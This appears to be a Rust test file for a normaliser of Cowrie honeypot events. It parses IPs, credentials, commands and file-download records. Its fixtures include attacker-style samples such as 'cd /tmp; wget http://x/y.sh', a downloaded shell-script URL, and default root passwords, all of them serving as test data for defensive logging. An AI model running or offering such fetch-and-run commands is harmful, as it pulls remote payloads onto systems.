//! Table tests for event normalisation.

use serde_json::{Value, json};

use super::*;

fn data(value: Value) -> EventData {
    let Value::Object(map) = value else {
        panic!("data must be an object")
    };
    EventData::from_map(&map)
}

fn norm(event_type: &str, value: Value) -> Normalized {
    normalize(event_type, &data(value))
}

fn fields(n: &Normalized) -> [Option<&str>; 4] {
    [
        n.src_ip.as_deref(),
        n.username.as_deref(),
        n.password.as_deref(),
        n.command.as_deref(),
    ]
}

#[test]
fn fields_from_data() {
    let table = [
        (
            json!({"src_ip": "203.0.113.7", "username": "root", "password": "123456", "input": "uname -a"}),
            [
                Some("203.0.113.7"),
                Some("root"),
                Some("123456"),
                Some("uname -a"),
            ],
        ),
        (
            json!({"ip": "198.51.100.2", "user": "admin", "command": "ls"}),
            [Some("198.51.100.2"), Some("admin"), None, Some("ls")],
        ),
        (
            json!({"remote_ip": "::ffff:192.0.2.1"}),
            [Some("192.0.2.1"), None, None, None],
        ),
        (
            json!({"src_ip": "2001:DB8::1"}),
            [Some("2001:db8::1"), None, None, None],
        ),
        (
            json!({"src_ip": "192.0.2.9:51234"}),
            [Some("192.0.2.9"), None, None, None],
        ),
        (
            json!({"src_ip": "[2001:db8::2]:22"}),
            [Some("2001:db8::2"), None, None, None],
        ),
        // First present wins, in CORE.md's order; a bad address falls through to the next.
        (
            json!({"src_ip": "not-an-ip", "ip": "192.0.2.3", "remote_ip": "192.0.2.4"}),
            [Some("192.0.2.3"), None, None, None],
        ),
        (
            json!({"username": "u1", "user": "u2", "input": "i", "command": "c"}),
            [None, Some("u1"), None, Some("i")],
        ),
        // Non-strings and empty strings are absent.
        (
            json!({"src_ip": 3232235777u32, "username": ["x"], "password": null, "input": ""}),
            [None, None, None, None],
        ),
        (json!({}), [None, None, None, None]),
    ];
    for (input, want) in table {
        let n = norm("cowrie.login.failed", input.clone());
        assert_eq!(fields(&n), want, "{input}");
        assert_eq!(n.event_type, "cowrie.login.failed", "{input}");
    }
}

fn download(n: &Normalized) -> [Option<&str>; 2] {
    [n.download_url.as_deref(), n.sha256.as_deref()]
}

const HASH: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

#[test]
fn downloads_from_data() {
    let upper = HASH.to_ascii_uppercase();
    let table = [
        // cowrie's session.file_download: url, shasum, outfile, destfile.
        (
            json!({"url": "http://198.51.100.4/x.sh", "shasum": HASH,
                "outfile": format!("var/lib/cowrie/downloads/{HASH}"), "destfile": "/tmp/x.sh"}),
            [Some("http://198.51.100.4/x.sh"), Some(HASH)],
        ),
        // shasum wins over sha256; sha256 alone is taken (file_upload has no url).
        (
            json!({"shasum": HASH, "sha256": "other"}),
            [None, Some(HASH)],
        ),
        (json!({"sha256": HASH}), [None, Some(HASH)]),
        // A non-string or empty shasum falls through to sha256.
        (json!({"shasum": 42, "sha256": HASH}), [None, Some(HASH)]),
        (json!({"shasum": "", "sha256": HASH}), [None, Some(HASH)]),
        // A well-formed hash is lowercased; anything else is kept as given.
        (json!({"shasum": upper}), [None, Some(HASH)]),
        (
            json!({"shasum": "not a hash", "url": "ftp://x"}),
            [Some("ftp://x"), Some("not a hash")],
        ),
        // Non-strings are absent.
        (
            json!({"url": {"href": "http://x"}, "shasum": ["a"], "sha256": null}),
            [None, None],
        ),
        (json!({"url": ""}), [None, None]),
        (json!({}), [None, None]),
    ];
    for (input, want) in table {
        let n = norm("cowrie.session.file_download", input.clone());
        assert_eq!(download(&n), want, "{input}");
        assert_eq!(fields(&n), [None; 4], "{input}");
    }
}

#[test]
fn long_download_fields_are_clipped() {
    let url = format!("http://x/{}", "a".repeat(5000));
    let n = norm(
        "cowrie.session.file_download",
        json!({"url": url, "shasum": "z".repeat(5000)}),
    );
    assert_eq!(n.download_url.unwrap().len(), MAX_FIELD_LEN);
    assert_eq!(n.sha256.unwrap().len(), MAX_FIELD_LEN);
}

#[test]
fn cowrie_download_messages() {
    let table = [
        (
            format!(
                "Downloaded URL (http://x/a.sh) with SHA-256 {HASH} to var/lib/cowrie/downloads/{HASH}"
            ),
            "cowrie.session.file_download",
            [Some("http://x/a.sh"), Some(HASH)],
        ),
        (
            format!("Downloaded URL (http://x/a) with SHA-256 b) with SHA-256 {HASH} to f"),
            "cowrie.session.file_download",
            [Some("http://x/a) with SHA-256 b"), Some(HASH)],
        ),
        (
            "Downloaded URL () with SHA-256 abc to f".to_owned(),
            "unknown",
            [None, None],
        ),
        (
            "Downloaded URL (http://x) to f".to_owned(),
            "unknown",
            [None, None],
        ),
    ];
    for (message, event_type, want) in table {
        let n = norm(TEXT_ONLY_EVENT, json!({"message": message}));
        assert_eq!(n.event_type, event_type, "{message}");
        assert_eq!(download(&n), want, "{message}");
    }
}

#[test]
fn cowrie_text_messages() {
    let table = [
        (
            "login attempt [root/123456] failed",
            "cowrie.login.failed",
            [None, Some("root"), Some("123456"), None],
        ),
        (
            "login attempt [admin/pa/ss] w]rd] succeeded",
            "cowrie.login.success",
            [None, Some("admin"), Some("pa/ss] w]rd"), None],
        ),
        (
            "login attempt [b'root'/b'toor'] succeeded",
            "cowrie.login.success",
            [None, Some("root"), Some("toor"), None],
        ),
        (
            "login attempt [/] failed",
            "cowrie.login.failed",
            [None, Some(""), Some(""), None],
        ),
        (
            "CMD: cd /tmp; wget http://x/y.sh",
            "cowrie.command.input",
            [None, None, None, Some("cd /tmp; wget http://x/y.sh")],
        ),
        (
            "New connection: 203.0.113.9:40312 (10.0.0.5:2222) [session: 5a1c]",
            "cowrie.session.connect",
            [Some("203.0.113.9"), None, None, None],
        ),
        ("login attempt [root/123456] maybe", "unknown", [None; 4]),
        ("login attempt root/123456 failed", "unknown", [None; 4]),
        ("something else entirely", "unknown", [None; 4]),
    ];
    for (message, event_type, want) in table {
        let n = norm(TEXT_ONLY_EVENT, json!({"message": message}));
        assert_eq!(n.event_type, event_type, "{message}");
        assert_eq!(fields(&n), want, "{message}");
    }
}

#[test]
fn messages_are_parsed_only_for_text_only_events() {
    let n = norm(
        "cowrie.login.failed",
        json!({"message": "login attempt [a/b] succeeded", "username": "x"}),
    );
    assert_eq!(n.event_type, "cowrie.login.failed");
    assert_eq!(n.username.as_deref(), Some("x"));
    assert_eq!(n.password, None);
}

#[test]
fn long_fields_are_clipped_on_a_char_boundary() {
    let long = "é".repeat(600);
    let n = norm("e", json!({"input": long}));
    let command = n.command.unwrap();
    assert!(command.len() <= MAX_FIELD_LEN);
    assert!(command.chars().all(|c| c == 'é'));
}
